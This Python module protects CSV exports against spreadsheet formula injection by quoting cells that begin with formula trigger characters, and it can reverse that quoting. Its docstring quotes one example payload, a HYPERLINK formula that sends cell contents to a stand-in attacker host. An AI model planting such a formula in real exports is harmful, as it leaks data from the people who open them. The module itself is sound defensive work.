"""CSV cells that a spreadsheet opens as text, never as a formula (CSV or formula injection).

A cell that starts with =, +, -, @, a tab or a carriage return (or their full-width forms)
could be run as a formula by Excel, LibreOffice or Google Sheets when staff open an export:
`=HYPERLINK("https://evil.example/?"&A1, "Open")` in a service's name would send other cells
away. Such a cell is written with one leading single quote, which spreadsheets show as text.

A plain phone number or negative number (`+1 203-555-0123`, `-5`) is left as it is: with no
letters, references or function calls it cannot reach anything, and phone numbers stay as
the directory holds them.

The quote is reversible: `restore` undoes `neutralise` exactly (a cell that already starts
with quotes before such a character gets one more), so this project's own CSV export imports
back unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
# Phone numbers and signed numbers: digits with phone punctuation, no letters or operators.
_PLAIN_NUMBER = re.compile(r"\+?[0-9][0-9 ().\-]*|-[0-9]+(?:\.[0-9]+)?")


def _formula_like(text: str) -> bool:
    return text[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(value: object) -> object:
    """The value as a spreadsheet-safe cell: text that could be a formula gets a leading '."""
    if isinstance(value, str) and _formula_like(value.lstrip(QUOTE)):
        return QUOTE + value
    return value


def restore(value: object) -> object:
    """The value neutralise was given (for reading this project's own CSV back)."""
    if isinstance(value, str) and value.startswith(QUOTE) and _formula_like(value.lstrip(QUOTE)):
        return value[1:]
    return value


def safe_row(row: Iterable) -> list:
    """A row of cells for csv.writer, each neutralised."""
    return [neutralise(cell) for cell in row]


def safe_dict(row: dict) -> dict:
    """A row for csv.DictWriter, each value neutralised."""
    return {key: neutralise(value) for key, value in row.items()}


def restored_dict(row: dict) -> dict:
    """A row read by csv.DictReader from this project's own export, as it was exported."""
    return {key: restore(value) for key, value in row.items()}
